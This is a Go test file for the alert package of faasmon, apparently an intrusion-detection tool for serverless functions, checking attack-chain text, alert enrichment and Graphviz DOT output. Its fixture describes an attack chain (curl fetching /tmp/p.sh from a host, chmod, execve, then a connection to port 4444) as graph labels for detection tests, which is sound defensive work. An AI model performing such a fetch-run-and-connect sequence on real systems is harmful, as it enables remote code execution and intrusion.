package alert

import (
	"bytes"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/faasmon/faasmon/pkg/graph/provenance"
	"github.com/faasmon/faasmon/pkg/verdict"
)

const wantChain = "node index.js → curl http://10.62.9.2/p.sh → /tmp/p.sh → chmod → execve /tmp/p.sh → connect 10.62.9.2:4444"

func TestChainText(t *testing.T) {
	long := attackVerdict()
	// A long explanation: 40 writes of long paths by the payload.
	for i := range 40 {
		g := long.Graph
		id := len(g.Nodes)
		g.Nodes = append(g.Nodes, provenance.Node{ID: id, Kind: provenance.NodeFile, Label: "/tmp/loot/" + strings.Repeat("x", 30) + string(rune('a'+i%26))})
		g.Edges = append(g.Edges, provenance.Edge{Src: 3, Dst: id, Kind: provenance.EdgeWrite, First: t0.Add(100e6), Last: t0.Add(100e6), Count: 1})
		long.Explanation.Edges = append(long.Explanation.Edges, explEdgeOf(g, len(g.Edges)-1, 0.5))
	}
	noGraph := attackVerdict()
	noGraph.Graph = nil
	oldExec := attackVerdict() // execve drawn process → file, as the first contract had it
	oldExec.Graph.Edges[8].Src, oldExec.Graph.Edges[8].Dst = 3, 2
	oldExec.Explanation.Edges[2].Src, oldExec.Explanation.Edges[2].Dst = 3, 2
	onlyNodes := attackVerdict()
	onlyNodes.Explanation.Edges = nil

	tests := []struct {
		name    string
		v       verdict.Verdict
		want    string // exact, or
		pattern string // a regexp
	}{
		{name: "attack graph, edges out of order", v: attackVerdict(), want: wantChain},
		{name: "old execve direction", v: oldExec, want: wantChain},
		// Without the graph there are no times (order along the paths) and
		// labels only for explanation nodes and edge ends (From, To).
		{name: "no graph", v: noGraph, want: "node index.js → curl http://10.62.9.2/p.sh → chmod /tmp/p.sh → /tmp/p.sh → execve /tmp/p.sh → connect 10.62.9.2:4444"},
		{name: "nodes only", v: onlyNodes, want: "/tmp/p.sh → 10.62.9.2:4444 → curl http://10.62.9.2/p.sh"},
		{name: "bounded", v: long, pattern: `^` + regexp.QuoteMeta(wantChain) + ` → /tmp/loot/x+a → .*… \(\d+ more\) → /tmp/loot/x+n$`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := chainText(newView(&tc.v))
			if n := utf8.RuneCountInString(got); n > MaxChainLen {
				t.Errorf("chain has %d runes, limit %d: %s", n, MaxChainLen, got)
			}
			if tc.want != "" && got != tc.want {
				t.Errorf("chain\n got %s\nwant %s", got, tc.want)
			}
			if tc.pattern != "" && !regexp.MustCompile(tc.pattern).MatchString(got) {
				t.Errorf("chain %q does not match %s", got, tc.pattern)
			}
		})
	}
}

func TestEnrichProcessChain(t *testing.T) {
	v := attackVerdict()
	a := Enrich(&v, t0)
	if a.Process == nil || a.Process.PID != 102 || a.Process.Name != "p.sh" {
		t.Fatalf("suspect process = %+v, want pid 102 p.sh", a.Process)
	}
	var chain []string
	for _, p := range a.ProcessChain {
		chain = append(chain, p.Cmdline)
	}
	if got := strings.Join(chain, " | "); got != "node index.js | /tmp/p.sh" {
		t.Errorf("process chain %q", got)
	}
	if a.Object != "/tmp/p.sh" || a.Function != "resize" || a.Pod != "resize-7d9f-abcde" || a.Container != "c0ffee" || a.Node != "node-a" {
		t.Errorf("enrichment: %+v", a)
	}
	if a.Chain != wantChain {
		t.Errorf("chain %q", a.Chain)
	}
	// The same intrusion in another run: other ids, pids, order, weights.
	w := attackVerdict()
	w.GraphID, w.CallID = "g-2", "call-2"
	w.Explanation.Edges[0], w.Explanation.Edges[4] = w.Explanation.Edges[4], w.Explanation.Edges[0]
	w.Explanation.Edges[1].Weight = 0.1
	w.Graph.Nodes[3].PID = 999
	b := Enrich(&w, t0)
	if a.Signature != b.Signature || a.DedupeKey != b.DedupeKey {
		t.Errorf("same intrusion, different signatures: %s %s", a.Signature, b.Signature)
	}
	if a.ID == b.ID {
		t.Errorf("two graphs, same alert id")
	}
	// Another attack: the payload connects elsewhere.
	w.Graph.Nodes[4].Label = "10.62.9.3:5555"
	if c := Enrich(&w, t0); c.Signature == a.Signature {
		t.Errorf("different intrusion, same signature")
	}
}

func TestSubgraphDOT(t *testing.T) {
	v := attackVerdict()
	dot := subgraphDOT(newView(&v))
	for _, want := range []string{
		"digraph faasmon {",
		`n3 [label="/tmp/p.sh", shape=box, style=filled`,
		`n4 [label="10.62.9.2:4444", shape=diamond`,
		`n2 -> n3 [label="execve", color="#d00000"`,
		`n1 -> n5 [label="connect", color="#999999"`, // 1-hop neighbour of curl
		`n7 [label="10.62.0.1:8080"`,                 // neighbour of node index.js via the fork's endpoint
	} {
		if !strings.Contains(dot, want) {
			t.Errorf("DOT lacks %q:\n%s", want, dot)
		}
	}
	// Balanced braces and one statement per line: a cheap parse.
	if strings.Count(dot, "{") != 1 || strings.Count(dot, "}") != 1 || !strings.HasSuffix(dot, "}\n") {
		t.Errorf("DOT not one graph:\n%s", dot)
	}
	// A label that needs escaping.
	v.Graph.Nodes[6].Label = `evil "name" \ with
newline`
	dot = subgraphDOT(newView(&v))
	if !strings.Contains(dot, `evil \"name\" \\ with\nnewline`) {
		t.Errorf("label not escaped:\n%s", dot)
	}
	dotBin, err := exec.LookPath("dot")
	if err != nil {
		t.Skip("graphviz dot not installed: DOT checked textually only")
	}
	cmd := exec.Command(dotBin, "-Tsvg")
	cmd.Stdin = strings.NewReader(dot)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil || errb.Len() > 0 {
		t.Fatalf("dot -Tsvg: %v %s\n%s", err, errb.String(), dot)
	}
	if !bytes.Contains(out.Bytes(), []byte("<svg")) || !bytes.Contains(out.Bytes(), []byte("10.62.9.2:4444")) {
		t.Errorf("svg lacks the graph")
	}
}

func TestSubgraphBounded(t *testing.T) {
	v := attackVerdict()
	g := v.Graph
	for i := range 500 {
		id := len(g.Nodes)
		g.Nodes = append(g.Nodes, provenance.Node{ID: id, Kind: provenance.NodeFile, Label: "/usr/lib/node/lib" + string(rune('a'+i%26))})
		g.Edges = append(g.Edges, provenance.Edge{Src: id, Dst: 0, Kind: provenance.EdgeRead, First: t0, Last: t0, Count: 3})
	}
	dot := subgraphDOT(newView(&v))
	if n := strings.Count(dot, "shape="); n > MaxDOTNodes {
		t.Errorf("%d nodes drawn, limit %d", n, MaxDOTNodes)
	}
	if n := strings.Count(dot, " -> "); n > MaxDOTEdges {
		t.Errorf("%d edges drawn, limit %d", n, MaxDOTEdges)
	}
}
